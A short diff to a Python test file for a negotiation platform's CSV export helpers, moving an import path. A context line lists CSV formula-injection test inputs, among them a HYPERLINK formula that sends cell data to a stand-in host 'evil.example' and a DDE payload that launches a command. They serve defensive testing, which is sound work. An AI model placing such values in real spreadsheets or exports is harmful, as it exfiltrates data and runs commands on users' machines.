@@ -15,7 +15,7 @@ from pathlib import Path
 import pytest
 
 from negotiation_platform.cli.main import main
-from negotiation_platform.csv_cells import neutral, restored, write_rows
+from negotiation_platform.store.csv_cells import neutral, restored, write_rows
 
 HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "'=quoted"]
 
